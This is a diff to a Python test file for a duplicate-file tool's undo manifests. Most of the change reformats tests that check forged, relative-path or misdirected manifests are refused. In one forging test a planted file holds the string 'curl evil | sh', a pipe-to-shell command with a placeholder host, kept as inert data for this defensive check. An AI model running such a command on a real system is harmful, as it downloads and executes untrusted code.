@@ -13,8 +13,8 @@ import stat
 from pathlib import Path
 
 import pytest
-
 from action_helpers import action_args, contents, exact, make_report, snapshot, write
+
 from dupbench.actions import apply_plan, load_manifest, make_plan, perform_actions, undo_manifest
 from dupbench.actions.manifest import Entry, ManifestRejected, ManifestWriter, OldManifest
 from dupbench.actions.seal import load_key, seal
@@ -74,10 +74,27 @@ def test_undo_from_another_folder_restores_where_the_run_was(tmp_path: Path, mon
 def test_an_old_manifest_with_relative_paths_is_refused_not_resolved_here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     write(tmp_path / "dupes" / "m.jpg", b"same")
     old = {
-        "format": "dupbench-actions", "version": 1, "action": "move", "created": "2026-11-30T10:00:00+0000",
-        "roots": ["pics"], "to": str(tmp_path / "dupes"), "finished": True, "journal": None, "skipped": [],
-        "entries": [{"op": "move", "source": "pics/m.jpg", "destination": str(tmp_path / "dupes" / "m.jpg"),
-                     "digest": file_digest(b"same").hex(), "size": 4, "mode": 0o644, "mtime_ns": 0, "keeper": "pics/k.jpg"}],
+        "format": "dupbench-actions",
+        "version": 1,
+        "action": "move",
+        "created": "2026-11-30T10:00:00+0000",
+        "roots": ["pics"],
+        "to": str(tmp_path / "dupes"),
+        "finished": True,
+        "journal": None,
+        "skipped": [],
+        "entries": [
+            {
+                "op": "move",
+                "source": "pics/m.jpg",
+                "destination": str(tmp_path / "dupes" / "m.jpg"),
+                "digest": file_digest(b"same").hex(),
+                "size": 4,
+                "mode": 0o644,
+                "mtime_ns": 0,
+                "keeper": "pics/k.jpg",
+            }
+        ],
     }
     (tmp_path / "old.json").write_text(json.dumps(old))
     monkeypatch.chdir(tmp_path)
@@ -107,8 +124,9 @@ def test_a_move_entry_naming_another_file_as_the_moved_one_is_refused(tmp_path: 
     root, to, manifest = moved
     victim = write(tmp_path / "private" / "secret.jpg", b"not dupbench's")
     info = os.stat(victim)
-    edit_manifest(manifest, lambda d: d["entries"][0].update(
-        destination=victim, digest=file_digest(b"not dupbench's").hex(), size=14, inode=[info.st_dev, info.st_ino]))
+    edit_manifest(
+        manifest, lambda d: d["entries"][0].update(destination=victim, digest=file_digest(b"not dupbench's").hex(), size=14, inode=[info.st_dev, info.st_ino])
+    )
     refused(manifest, snapshot(tmp_path), tmp_path, "is not where the move put")
     assert Path(victim).read_bytes() == b"not dupbench's"
 
@@ -245,8 +263,15 @@ def test_a_manifest_edited_without_the_key_is_refused(tmp_path: Path, moved) -> 
 
     def forge(d: dict) -> None:
         d.update(roots=[str(target.parent)], to=str(tmp_path / "shared"))
-        d["entries"][0].update(source=str(target), keeper=str(target.parent / "k.jpg"), destination=planted,
-                               digest=file_digest(b"curl evil | sh").hex(), size=14, inode=[info.st_dev, info.st_ino], created_dirs=[])
+        d["entries"][0].update(
+            source=str(target),
+            keeper=str(target.parent / "k.jpg"),
+            destination=planted,
+            digest=file_digest(b"curl evil | sh").hex(),
+            size=14,
+            inode=[info.st_dev, info.st_ino],
+            created_dirs=[],
+        )
 
     edit_manifest(manifest, forge, reseal=False)
     before = snapshot(tmp_path)
